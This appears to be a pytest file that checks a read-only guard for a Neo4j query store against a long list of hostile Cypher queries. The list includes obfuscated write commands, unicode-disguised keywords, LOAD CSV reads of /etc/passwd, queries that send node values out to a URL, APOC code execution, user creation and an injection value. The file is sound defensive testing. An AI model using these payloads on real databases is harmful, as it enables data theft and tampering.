"""The fence against those who want through it: nothing written, no file read, no address called."""

from __future__ import annotations

import hashlib
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from coterie.queries.errors import CoterieError
from coterie.queries.store import Store, fence

# What each tries, and the query; URL is an address that listens, FILE a file that Neo4j could read.
HOSTILE = [
    # plain words
    ("create", "CREATE (n:Account {key: 'x'}) RETURN n"),
    ("merge", "MERGE (n:Account {key: 'x'}) RETURN n"),
    ("delete", "MATCH (n) DETACH DELETE n"),
    ("set", "MATCH (n) SET n.key = 'x' RETURN n"),
    ("set label", "MATCH (n) SET n:Liar RETURN n"),
    ("remove", "MATCH (n) REMOVE n.key RETURN n"),
    ("foreach", "MATCH (n) FOREACH (x IN [1] | SET n.key = 'x')"),
    ("foreach in foreach", "UNWIND [1] AS i FOREACH (a IN [i] | FOREACH (b IN [a] | CREATE (:Account {key: 'x'})))"),
    ("insert", "INSERT (:Account {key: 'x'})"),
    ("insert later", "MATCH (n) INSERT (n)-[:SAID]->(:Post {key: 'x'}) RETURN n"),
    ("create after with", "MATCH (n) WITH n LIMIT 1 CREATE (:Account {key: 'x'}) RETURN 1 AS one"),
    ("create after union", "MATCH (n) RETURN n.key AS k UNION CREATE (m:Account {key: 'x'}) RETURN m.key AS k"),
    # in disguise
    ("split by a comment", "MATCH (n) DELETE/* */n"),
    ("after a line comment", "MATCH (n) // RETURN n\nDELETE n"),
    ("after a carriage return", "MATCH (n) // a comment\rSET n.key = 'x'"),
    ("a comment that seems open", "MATCH (n) RETURN '/*' AS a UNION CREATE (m) RETURN m.key AS a //*/"),
    ("odd letter case", "mAtCh (n) dEtAcH dElEtE n"),
    ("backticks", "MATCH (`CREATE`) SET `CREATE`.key = 'x' RETURN `CREATE`"),
    ("escaped letter", "\\u0043REATE (n:Account {key: 'x'}) RETURN n"),
    ("escaped letter later", "MATCH (n) \\u0053ET n.key = 'x' RETURN n"),
    ("all letters escaped", "MATCH (n) \\u0044\\u0045\\u0054\\u0041\\u0043\\u0048 \\u0044\\u0045\\u004C\\u0045\\u0054\\u0045 n"),
    ("escaped quote", "RETURN '\\u0027 AS a UNION CREATE (n) RETURN n.key AS a //' AS a"),
    ("escaped line end", "// a comment \\u000a CREATE (n:Account {key: 'x'}) RETURN n"),
    ("escaped in eight", "\\U00000043REATE (n) RETURN n"),
    ("fullwidth letters", "ＣＲＥＡＴＥ (n:Account {key: 'x'}) RETURN n"),
    ("cyrillic letters", "СRЕАТЕ (n:Account {key: 'x'}) RETURN n"),
    ("fullwidth later", "MATCH (n) ＤＥＬＥＴＥ n"),
    ("dotless i", "MATCH (n) DETACH DELETE n RETURN 'ı'"),
    ("zero width space", "MATCH (n) CRE\u200bATE (m) RETURN m"),
    ("no-break space", "MATCH\u00a0(n)\u00a0DELETE\u00a0n"),
    ("ogham space", "MATCH (n)\u1680SET\u1680n.key = 'x'"),
    ("next line as space", "MATCH (n)\u0085SET n.key = 'x'"),
    ("byte order mark", "\ufeffCREATE (n) RETURN n"),
    ("null byte", "MATCH (n) RETURN n\x00 CREATE (m)"),
    # in parts of a query
    ("subquery", "CALL { CREATE (n:Account {key: 'x'}) RETURN n } RETURN n"),
    ("subquery with scope", "MATCH (n) CALL (n) { SET n.key = 'x' } RETURN n"),
    ("subquery that gives nothing", "UNWIND [1] AS i CALL { MATCH (n) DELETE n } RETURN i"),
    ("subquery in a subquery", "CALL { CALL { CREATE (n) RETURN n } RETURN n } RETURN n"),
    ("exists", "MATCH (n) WHERE EXISTS { CREATE (m) RETURN m } RETURN n"),
    ("count", "RETURN COUNT { MERGE (m:Account {key: 'x'}) RETURN m } AS n"),
    ("collect", "RETURN COLLECT { CREATE (m) RETURN m } AS n"),
    ("own transactions", "MATCH (n) CALL (n) { DELETE n } IN TRANSACTIONS"),
    ("own transactions, concurrent", "MATCH (n) CALL (n) { DELETE n } IN 2 CONCURRENT TRANSACTIONS OF 1 ROW ON ERROR CONTINUE"),
    ("own transactions, reading", "MATCH (n) CALL (n) { RETURN n.key AS k } IN TRANSACTIONS RETURN k"),
    ("periodic commit", "USING PERIODIC COMMIT 500 LOAD CSV FROM 'FILE' AS line CREATE (:Account {key: line[0]})"),
    # several statements, and words before the statement
    ("two statements", "MATCH (n) RETURN n; MATCH (n) DETACH DELETE n"),
    ("two statements in lines", "RETURN 1 AS one\n;\nCREATE (n)\n;"),
    ("an empty statement first", "; CREATE (n)"),
    ("profile", "PROFILE CREATE (n) RETURN n"),
    ("explain inside", "EXPLAIN CREATE (n) RETURN n"),
    ("cypher version", "CYPHER 5 CREATE (n) RETURN n"),
    ("cypher 25", "CYPHER 25 MATCH (n) SET n.key = 'x'"),
    ("cypher options", "CYPHER runtime=slotted planner=cost CREATE (n) RETURN n"),
    ("an end in a string", "MATCH (n) WHERE n.key = 'x'; DROP' RETURN n"),
    # files and addresses
    ("file", "LOAD CSV FROM 'FILE' AS line RETURN line"),
    ("file outside", "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line"),
    ("file above", "LOAD CSV FROM 'file:///../../../../etc/passwd' AS line RETURN line"),
    ("file by a parameter", "WITH $file AS file LOAD CSV FROM file AS line RETURN line"),
    ("file with headers", "MATCH (n) LOAD CSV WITH HEADERS FROM 'FILE' AS line RETURN line"),
    ("file in a subquery", "CALL { LOAD CSV FROM 'FILE' AS line RETURN line } RETURN line"),
    ("file in exists", "MATCH (n) WHERE EXISTS { LOAD CSV FROM 'FILE' AS line RETURN line } RETURN n"),
    ("file, split by a comment", "WITH 1 AS one LOAD /* */ CSV FROM 'FILE' AS line RETURN line"),
    ("file, escaped", "WITH 1 AS one \\u004cOAD CSV FROM 'FILE' AS line RETURN line"),
    ("file, odd space", "WITH 1 AS one LOAD\u2003CSV FROM 'FILE' AS line RETURN line"),
    ("file, vanishing character", "WITH 1 AS one LOAD\u180eCSV FROM 'FILE' AS line RETURN line"),
    ("address", "LOAD CSV FROM 'URL/a' AS line RETURN line"),
    ("address made of parts", "WITH 'http' + '://' + substring('URL', 7) AS a LOAD CSV FROM a AS line RETURN line"),
    ("address by a parameter", "UNWIND [$url] AS a LOAD CSV FROM a AS line RETURN line"),
    ("address that tells a value", "MATCH (n:Account) LOAD CSV FROM 'URL/' + n.key AS line RETURN line"),
    ("address by ftp", "WITH replace('URL', 'http', 'ftp') AS a LOAD CSV FROM a AS line RETURN line"),
    ("address in a hidden line", "RETURN 1 AS one //\u2028LOAD CSV FROM 'URL/b' AS line RETURN line"),
    # procedures and functions
    ("list the settings", "CALL dbms.listConfig() YIELD name, value RETURN name, value"),
    ("settings in backticks", "CALL `dbms`.`listConfig`() YIELD name RETURN name"),
    ("settings with spaces", "CALL dbms . /* */ listConfig() YIELD name RETURN name"),
    ("change a setting", "CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')"),
    ("kill a connection", "CALL dbms.killConnection('bolt-1')"),
    ("upgrade the store", "CALL dbms.upgrade()"),
    ("a new label", "CALL db.createLabel('Liar')"),
    ("a new property", "MATCH (n) CALL db.createProperty('liar') RETURN n"),
    ("a new index", "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()"),
    ("clear the caches", "CALL db.clearQueryCaches() YIELD value RETURN value"),
    ("resample", "CALL db.resampleOutdatedIndexes()"),
    ("mark the transaction", "CALL tx.setMetaData({a: 1})"),
    ("change the own password", "CALL dbms.security.changePassword('12345678')"),
    ("gds", "CALL gds.graph.project('g', '*', '*') YIELD graphName RETURN graphName"),
    ("apoc", "CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value"),
    ("apoc over the network", "CALL apoc.load.json('URL/c') YIELD value RETURN value"),
    ("apoc as a function", "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n) RETURN n', {}) AS n"),
    # the server itself
    ("users", "SHOW USERS"),
    ("transactions", "SHOW TRANSACTIONS YIELD * RETURN *"),
    ("settings", "SHOW SETTINGS YIELD name, value RETURN name, value"),
    ("end another's transaction", "TERMINATE TRANSACTION 'neo4j-transaction-1'"),
    ("another database", "USE system SHOW DATABASES"),
    ("another database inside", "CALL { USE system RETURN 1 AS one } RETURN one"),
    ("another graph by a function", "USE graph.byName('system') MATCH (n) RETURN n"),
    ("a new user", "CREATE USER eve SET PASSWORD 'password-of-eve'"),
    ("a new password", "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'bbbbbbbb'"),
    ("a new database", "CREATE DATABASE other"),
    ("stop the database", "STOP DATABASE neo4j"),
    ("an alias elsewhere", "CREATE ALIAS away FOR DATABASE neo4j AT 'bolt://127.0.0.1:1' USER a PASSWORD 'bbbbbbbb'"),
    ("index", "CREATE INDEX later FOR (n:Account) ON (n.name)"),
    ("constraint", "DROP CONSTRAINT run_id IF EXISTS"),
    # values that hope to be taken for Cypher
    ("value with a statement", "RETURN $text AS text"),
    ("value as a label", "MATCH (n:$($text)) RETURN n"),
    ("value as a label to set", "MATCH (n) SET n:$($text) RETURN n"),
    ("value as a property", "MATCH (n) RETURN n[$text] AS value"),
    ("value as a query", "CALL $text RETURN 1"),
    ("too deep to think about", "RETURN " + "[" * 3000 + "]" * 3000 + " AS deep"),
    ("denied too often", "RETURN " + "NOT " * 3000 + "true AS denied"),
]
PASS = {"value with a statement", "value as a label", "value as a property", "address in a hidden line"}
"""These only read: a parameter is never taken for Cypher, and to Neo4j that line is still a comment."""

SLOW = {"too deep to think about", "denied too often"}
"""Only the words stop these: Neo4j's reader breaks and never answers."""
SECRET = "secret-of-the-file"


@pytest.fixture(scope="module")
def url() -> Iterator[tuple[str, list[str]]]:
    """An address on this machine, and who called it."""
    calls: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:
        def wait() -> None:
            while True:
                try:
                    caller, who = listening.accept()
                except OSError:
                    return
                calls.append(str(who))
                caller.close()

        threading.Thread(target=wait, daemon=True).start()
        yield f"http://127.0.0.1:{listening.getsockname()[1]}", calls
        listening.shutdown(socket.SHUT_RDWR)


@pytest.fixture(scope="module")
def whole(store: Store, _schema: None) -> Iterator[None]:
    """What a query could change beside nodes and edges is the same at the end."""
    def seen() -> list[list[dict[str, Any]]]:
        return [store.read(query) for query in (
            "SHOW INDEXES YIELD name RETURN name ORDER BY name", "SHOW CONSTRAINTS YIELD name RETURN name ORDER BY name",
            "SHOW USERS YIELD user RETURN user ORDER BY user", "SHOW DATABASES YIELD name, currentStatus RETURN name, currentStatus ORDER BY name",
            "CALL db.labels() YIELD label RETURN label ORDER BY label",
            "CALL db.propertyKeys() YIELD propertyKey AS key RETURN key ORDER BY key")]

    before = seen()
    yield
    assert seen() == before


@pytest.fixture(scope="module")
def world(store: Store, _schema: None, database: Path) -> Iterator[Store]:
    """A small graph, and a file where Neo4j looks for files."""
    store.clear()
    store.write("CREATE (:Account {key: 'x:1'})-[:POSTED]->(:Post {key: 'x:2'})")
    (database / "import" / "secret.csv").write_text(SECRET + "\n")
    yield store
    store.clear()
    (database / "import" / "secret.csv").unlink()


def state(store: Store) -> str:
    """A hash of the graph."""
    seen = store.read("MATCH (n) OPTIONAL MATCH (n)-[e]->() RETURN elementId(n) AS id, labels(n) AS labels, properties(n) AS has, "
                      "type(e) AS type, properties(e) AS told ORDER BY id, elementId(e)")
    return hashlib.sha256(json.dumps(seen).encode()).hexdigest()


@pytest.mark.usefixtures("whole")
@pytest.mark.parametrize("words_too", [True, False], ids=["words and plan", "plan alone"])
@pytest.mark.parametrize(("what", "query"), HOSTILE, ids=[what for what, _ in HOSTILE])
def test_nothing_is_written_read_or_called(world: Store, url: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch,
                                           what: str, query: str, words_too: bool) -> None:
    if not words_too:
        if what in SLOW:
            return
        monkeypatch.setattr(fence, "check", lambda query: None)
    before = state(world)
    params: dict[str, Any] = {"text": "x') CREATE (n:Liar) //", "url": f"{url[0]}/p", "file": "file:///secret.csv"}
    refused, rows = False, []
    try:
        _, rows, _ = world.ask(query.replace("URL", url[0]).replace("FILE", "file:///secret.csv"), params, timeout=20)
    except CoterieError as fault:
        refused = True
        assert fault.exit in (1, 7) and SECRET not in str(fault)
    assert state(world) == before
    assert SECRET not in str(rows) and "root:" not in str(rows)
    assert url[1] == []
    if words_too:
        assert refused is (what not in PASS)


@pytest.mark.parametrize("query", [query for _, query in HOSTILE if query.startswith("LOAD CSV")])
def test_even_without_a_fence_as_in_the_browser_the_server_opens_nothing(world: Store, url: tuple[str, list[str]], query: str) -> None:
    with pytest.raises(CoterieError, match=r"block|disabled|not allowed|configuration|External|external|refuses"):
        world.read(query.replace("URL", url[0]).replace("FILE", "file:///secret.csv"))
    assert url[1] == []


def test_the_address_does_hear_those_who_call(url: tuple[str, list[str]]) -> None:
    socket.create_connection(("127.0.0.1", int(url[0].rpartition(":")[2])), timeout=5).close()
    until = time.monotonic() + 5
    while not url[1] and time.monotonic() < until:
        time.sleep(0.01)
    assert len(url[1]) == 1
    url[1].clear()


def test_sixty_or_more_were_tried() -> None:
    assert len({query for _, query in HOSTILE}) == len(HOSTILE) == len({what for what, _ in HOSTILE}) >= 60
